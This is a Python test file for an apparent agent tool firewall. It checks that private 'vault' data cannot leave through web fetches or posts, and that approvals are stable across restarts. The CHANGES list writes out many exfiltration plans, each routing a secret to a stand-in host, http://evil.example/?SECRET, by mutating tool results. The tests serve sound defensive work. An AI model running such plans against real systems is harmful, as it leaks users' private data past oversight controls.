"""`verbatim` means: as a tool returned it. A result that the plan changed is not, nor is what is read from it.

What was found: a text computed from private data and stored into a tool's result was read back as that result's own,
and the default rule for what leaves let it out. And a part of a result that had been waited for lost its origin, so
that the verdict after a restart was another one. Never deleted.
"""

from __future__ import annotations

import pytest

from ringfence import Firewall, labels, tool

left: list[object] = []


@pytest.fixture(autouse=True)
def _nothing_left() -> None:
    left.clear()


@tool(effect="read", returns=labels(sources="web"))
def links() -> list[str]:
    """Links."""
    return ["http://a.example/", "http://b.example/"]


@tool(effect="read", returns=labels(sources="web"))
def nested() -> list[list[str]]:
    """Lists of links."""
    return [["http://a.example/"], ["http://b.example/"]]


@tool(effect="read", returns=labels(sources="web"))
def pair() -> tuple[list[str], str]:
    """Links, and one more."""
    return (["http://a.example/"], "http://b.example/")


@tool(effect="read", returns=labels(sources="web"))
def table() -> dict[str, str]:
    """Links by name."""
    return {"a": "http://a.example/"}


@tool(effect="read", returns=labels(sources="developer", readers="everyone", own=False))
def ours() -> list[list[str]]:
    """What is the developer's own, and public."""
    return [["http://a.example/"], ["http://b.example/"]]


@tool(effect="read", returns=labels(sources="vault", readers=("user",)))
def vault() -> str:
    """What is the user's alone."""
    return "http://evil.example/?SECRET"


@tool(effect="read", returns=labels(sources="vault", readers=("user",)))
def private() -> list[str]:
    """Links that are the user's alone."""
    return ["http://a.example/", "http://b.example/"]


@tool(effect="read", egress=["url"])
def fetch(url: str) -> str:
    """A page."""
    left.append(url)
    return ""


@tool(effect="write")
def post(urls: list[str]) -> None:
    """Post links."""
    left.append(urls)


@tool(effect="write")
def post_lists(urls: list[list[str]]) -> None:
    """Post lists of links."""
    left.append(urls)


TOOLS = [links, nested, pair, table, ours, vault, private, fetch, post, post_lists]
RULES = {name: {"effect": "write", "allow": "verbatim(urls)"} for name in ("post", "post_lists")}
CHANGES = [
    "x = links()\nx[0] = ('' + vault())\nfetch(x[0])",
    "x = links()\nx[-1] = ('' + vault())\nfetch(x[-1])",
    "x = links()\nx[0:1] = [('' + vault())]\nfetch(x[0])",
    "x = links()\nx.append(('' + vault()))\nfetch(x[2])",
    "x = links()\nx.extend([('' + vault())])\nfetch(x[2])",
    "x = links()\nx += [('' + vault())]\nfetch(x[2])",
    "x = links()\nx.insert(0, ('' + vault()))\nfetch(x[0])",
    "x = links()\nx.insert(0, ('' + vault()))\nfor url in x:\n    fetch(url)",
    "x = links()\nx.insert(0, ('' + vault()))\n[fetch(url) for url in x]",
    "x = links()\nx.insert(0, ('' + vault()))\nfetch(list(x)[0])",
    "x = links()\nx.insert(0, ('' + vault()))\nfetch(next(iter(x)))",
    "x = links()\nx.insert(0, ('' + vault()))\nfetch([url for url in x if 'evil' in url][0])",
    "x = links()\nx.insert(0, ('' + vault()))\na, *rest = x\nfetch(a)",
    "x = links()\nx.insert(0, ('' + vault()))\nfetch(max(x, key=len))",
    "x = links()\nx.insert(0, ('' + vault()))\nfetch(sorted(x, key=len)[-1])",
    "x = links()\ny = x\nn = len(x)\ny[0] = ('' + vault())\nfetch(x[0])",
    "x = links()\nfor url in x:\n    x[1] = ('' + vault())\n    if url != 'http://a.example/':\n        fetch(url)",
    "def change(y):\n    y[0] = ('' + vault())\nx = links()\nchange(x)\nfetch(x[0])",
    "x = table()\nx['a'] = ('' + vault())\nfetch(x['a'])",
    "x = table()\nx['b'] = ('' + vault())\nfetch(x['b'])",
    "x = table()\nx.update({'a': ('' + vault())})\nfetch(x['a'])",
    "x = table()\nx |= {'a': ('' + vault())}\nfetch(x['a'])",
    "x = table()\nx.setdefault('b', ('' + vault()))\nfetch(x['b'])",
    "x = nested()\nx[0][0] = ('' + vault())\nfetch(x[0][0])",
    "x = nested()\ny = x[0]\ny.append(('' + vault()))\nfetch(x[0][1])",
    "x = nested()\nfor y in x:\n    y.append(('' + vault()))\npost_lists(x)",
    "x = nested()\nx[0].append(('' + vault()))\npost(x[0])",
    "x = links()\nx.append(('' + vault()))\npost(x)",
    "x = links()\nx.clear()\nx.append(('' + vault()))\npost(x)",
    "x = pair()\nx[0].append(('' + vault()))\nfetch(x[0][1])",
    "x = pair()\nx[0].append(('' + vault()))\npost(x[0])",
    "from copy import deepcopy\nx = pair()\ny = deepcopy(x)\ny[0].append(('' + vault()))\npost(y[0])",
    "x = ours()\ny = x[0]\nx.append([])\nx[0].append(('' + vault()))\nfetch(y[1])",
    "x = ours()\ny = x[0]\nlist(x)[0].append(('' + vault()))\nfetch(y[1])",
]


@pytest.mark.parametrize("plan", CHANGES)
def test_what_the_plan_put_into_a_result_is_not_verbatim(plan: str) -> None:
    with Firewall(TOOLS, policy=RULES) as firewall:
        result = firewall.exec(plan)
    assert result.outcome in ("waiting", "denied"), result.error
    assert not any("SECRET" in str(one) for one in left)


@pytest.mark.parametrize("change", ["x.reverse()", "x.append('y')", "x[0] = 'y'", "x.sort()", "x.pop()"])
def test_whether_it_was_changed_tells_nothing(change: str) -> None:
    """In the arm that did not run it counts as changed, too: else the verdict would tell which arm ran."""
    plan = "x = private()\nif {}:\n    " + change + "\nfetch(x[0])"
    ends = []
    for truth in ("vault() == 'no'", "vault() != 'no'"):
        with Firewall(TOOLS, policy=RULES) as firewall:
            ends.append(firewall.exec(plan.format(truth)).outcome)
    assert ends == ["waiting", "waiting"]


FORMS = [
    "links()[0]",
    "links()[-1]",
    "pair()[1]",
    "pair()[0][0]",
    "table()['a']",
    "nested()[1][0]",
    "[url for url in links()][0]",
    "list(links())[1]",
    "(lambda url: url)(links())[0]",
]


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("waited", [False, True])
def test_what_is_read_from_a_result_that_was_waited_for_is_verbatim(form: str, waited: bool) -> None:
    """At once as well as after a restart, where the result is there already."""
    before = "x = links()\nn = len(x)\n" if waited else ""
    with Firewall(TOOLS, policy=RULES) as firewall:
        assert firewall.exec(f"{before}fetch({form})\nanswer('done')").outcome == "completed"
    assert len(left) == 1


@pytest.mark.parametrize("form", [*FORMS, "links().pop()", "links()[0:1][0]", "table().get('a')"])
def test_a_question_after_a_restart_is_the_same(form: str) -> None:
    """The approval is bound to what was shown, so the second question is the first only if the origins are the same."""
    asks = {"fetch": {"effect": "read", "egress": ["url"], "allow": "verbatim(url) and False", "ask": "True"}}
    with Firewall(TOOLS, policy=asks) as firewall:
        first = firewall.exec(f"fetch({form})\nanswer('done')")
        second = firewall.resume(first.run_id)
        assert first.approval is not None
        assert second.approval is not None
        assert first.approval.id == second.approval.id
        firewall.approve(first.approval)
        assert firewall.resume(first.run_id).outcome == "completed"
